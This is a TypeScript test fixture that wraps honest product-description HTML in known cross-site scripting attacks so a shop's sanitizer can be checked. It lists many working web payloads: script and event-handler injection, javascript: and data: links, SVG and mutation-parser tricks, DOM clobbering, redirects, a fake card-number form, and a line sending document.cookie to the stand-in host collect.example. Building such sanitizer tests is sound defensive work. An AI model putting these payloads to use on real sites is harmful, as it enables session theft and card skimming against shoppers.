/**
 * Descriptions with attacks that are known against shops that show the HTML of others. The shop must remove each attack and keep
 * the text: if it fails, these products show it first. Nobody owns a `.example` address.
 */
import { type About, plainHtml } from "./description.ts";
import { seeded } from "./seeded.ts";

const steal = "fetch('https://collect.example/?c='+document.cookie)";

/** The description of product `id` with one of the attempts in it. */
export function hostileHtml(about: About, id: number): string {
  return seeded(`hostile/${id}`).one(attempts)(plainHtml(about));
}

/** Each takes honest HTML and gives it back with company. */
export const attempts: ((honest: string) => string)[] = [
  // Scripts: plain, shouted from elsewhere, and never ended.
  (honest) =>
    `<script>${steal}</script>${honest}<SCRIPT SRC=//collect.example/x.js></SCRIPT><script/src="data:,alert(1)">`,
  // Pictures that fail on purpose, or load with a remark.
  (honest) =>
    `<img src=x onerror="${steal}">${honest}<img src="https://cdn.example/p.gif" onload=${JSON.stringify(steal)} width=1>`,
  // Handlers on ordinary elements, one without quotes, one without a space before it.
  (honest) =>
    `<div onmouseover="${steal}" onclick='${steal.replaceAll("'", "&#39;")}'>${honest}</div><p/onfocus=alert(1) tabindex=0 autofocus>&nbsp;</p>`,
  // Addresses that are programs, in disguises.
  (honest) =>
    `${honest}<p><a href="javascript:${steal}">Size chart</a> <a href=" java&#10;script:alert(1)">Reviews</a> <a href="jav&#x09;ascript:alert(1)">Video</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Manual</a> <a href="vbscript:msgbox(1)">Care</a></p>`,
  // Another page over this one.
  (honest) =>
    `<iframe src="https://collect.example/checkout" style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>${honest}<object data="https://collect.example/a.swf"></object><embed src="//collect.example/a.svg">`,
  // A sheet of style for the whole page.
  (honest) =>
    `<style>@import url(https://collect.example/a.css);body{display:none}[value^="4"]{background:url(https://collect.example/4)}</style>${honest}<link rel="stylesheet" href="https://collect.example/a.css">`,
  // Ends what it has not begun, begins what it does not end, and loses a quotation mark.
  (honest) =>
    `</div></div></main></body></html><div><b><i><table><tr><td>${honest}</section></p></b><p class="x title='y><u>&nbsp;</u><a title="`,
  // Drawings with programs in them.
  (honest) =>
    `<svg onload=alert(1)><script>${steal}</script><a xlink:href="javascript:alert(1)"><rect width="1000" height="1000"/></a><animate onbegin=alert(1) attributeName=x dur=1s></svg>${honest}<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>`,
  // Asks for a card number in the shop's own frame.
  (honest) =>
    `${honest}<form action="https://collect.example/pay" method="post"><input name="card" placeholder="Card number"><input type="hidden" name="csrf"><button formaction="javascript:alert(1)">Get your coupon</button></form>`,
  // Moves the page's ground, or the whole page.
  (honest) =>
    `<base href="https://collect.example/"><meta http-equiv="refresh" content="0;url=https://collect.example/"><meta charset="utf-7">${honest}`,
  // Style that runs, and style that covers everything with one link.
  (honest) =>
    `<div style="background:url('javascript:alert(1)');width:expression(alert(1));-moz-binding:url(//collect.example/x.xml)">${honest}</div><a href="https://collect.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;opacity:0">&nbsp;</a><table background="javascript:alert(1)"><tr><td background="https://collect.example/p.gif"></td></tr></table>`,
  // Reads one way to a cleaner and another way to a browser.
  (honest) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>${honest}<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  (honest) =>
    `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg>${honest}<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)>`,
  // Takes the names that the shop's own scripts look for.
  (honest) =>
    `<div id="root" class="app cart"><a id="defaultView" name="cookie" href="tel:1">&nbsp;</a><img name="getElementById"><template><script>alert(1)</script></template>${honest}</div>`,
  // Media that complains loudly, details that open by themselves.
  (honest) =>
    `<video poster="javascript:alert(1)"><source onerror="${steal}"></video><audio src=x onerror=alert(1)></audio><details open ontoggle=alert(1)>${honest}</details><marquee onstart=alert(1)>&nbsp;</marquee>`,
  // Swallows the rest of the page.
  (honest) => `${"<div>".repeat(9)}${honest}<textarea><title><xmp><plaintext>`,
];
